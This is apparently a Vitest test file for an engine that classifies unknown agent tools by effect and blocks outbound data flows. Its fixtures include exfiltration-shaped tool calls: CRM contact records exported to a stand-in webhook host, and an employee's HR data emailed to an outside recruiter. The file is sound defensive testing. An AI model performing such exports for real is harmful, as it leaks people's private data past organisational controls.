// Tools a catalog does not know (held-out corpus of generic and unknown tools): a dispatcher's
// action argument names its effect, a query about a transfer is a read, names in Chinese and
// arguments in other languages are understood, a tool named after an org system acts on it, and a
// web address anywhere in the arguments is where an unknown tool sends.
import { describe, expect, it } from 'vitest';
import { api, decide, engine, liftedTool, tool } from '../../../helpers/engine';

describe('unknown tools', () => {
  it('execute_task names its effect in its action; a shell tool still runs its command', () => {
    expect(liftedTool('execute_task', { action: 'transfer_funds', params: { to_iban: 'GB33BUKB20201555555555', amount: 1800 } })).toMatchObject({ effect: 'payment' });
    expect(liftedTool('execute_task', { action: 'notify', spec: { channel: { kind: 'sms', to: '+61 412 555 019' }, message: { text: 'hi' } } })).toMatchObject({ effect: 'send' });
    expect(liftedTool('terminal', { input: 'ls -la', session: 'tty1' })).toMatchObject({ effect: 'shell' });
    expect(liftedTool('run_command', { command: 'df -h' })).toMatchObject({ effect: 'shell' });
  });

  it('a query about money is a read: get_transfer_status, payment_history', () => {
    expect(liftedTool('get_transfer_status', { transfer_id: 'TRF-88120' })).toMatchObject({ effect: 'read' });
    expect(liftedTool('payment_history', { month: '2024-11' })).toMatchObject({ effect: 'read' });
    expect(liftedTool('transfer_money', { to: 'Ana', amount: 20 })).toMatchObject({ effect: 'payment' });
  });

  it('tool names in Chinese and argument names in other languages', () => {
    expect(liftedTool('转账工具', { 收款人: '王海峰', 金额: '5000.00' })).toMatchObject({ effect: 'payment' });
    expect(liftedTool('发送邮件', { 收件人: ['it@haiyun.example'], 正文: 'hi' })).toMatchObject({ effect: 'send', sink: { kind: 'email' } });
    expect(liftedTool('enviar_correo', { para: ['a@b.example'], cuerpo: 'hola' })).toMatchObject({ effect: 'send', sink: { recipients: ['a@b.example'] } });
  });

  it('a tool named after an org private system reads it; what it returns is that system\'s data', () => {
    const cfg = { org: { privateHosts: { 'hr.brightline.example': 'hr' } }, agents: { a: { role: 'onboarding', scopes: ['hr.read', 'email.send'] } } };
    const e = engine({ config: cfg });
    expect(decide(e, tool('a', 'hr_lookup_employee', { employee_id: 'BL-1120' }), { result: { name: 'Sven Lindqvist', mobile: '+1 208 555 0147' } }).decision).toBe('allow');
    expect(decide(e, tool('a', 'send_email', { to: 'recruiter@agency.example', body: 'Sven Lindqvist +1 208 555 0147' })).decision).toBe('deny');
  });

  it('an unknown tool handing records to a web address anywhere in its arguments sends them there', () => {
    const e = engine({ config: { org: { privateHosts: { 'crm.nordwind.example': 'crm' } } } });
    decide(e, api('a', 'GET', 'https://crm.nordwind.example/api/v2/contacts'), { body: { contacts: [{ name: 'Henrike Albers', phone: '+49 421 5550 7731' }] } });
    expect(decide(e, tool('a', 'crm.contacts.export', { format: 'json', records: [{ name: 'Henrike Albers', phone: '+49 421 5550 7731' }], destination: { type: 'webhook', url: 'https://webhook.example.site/5b1e' } })).decision).toBe('deny');
    expect(liftedTool('backup_now', { target: 'https://backup.example.net/upload', include: ['sms'] })).toMatchObject({ effect: 'http_write', sink: { host: 'backup.example.net' } });
  });
});
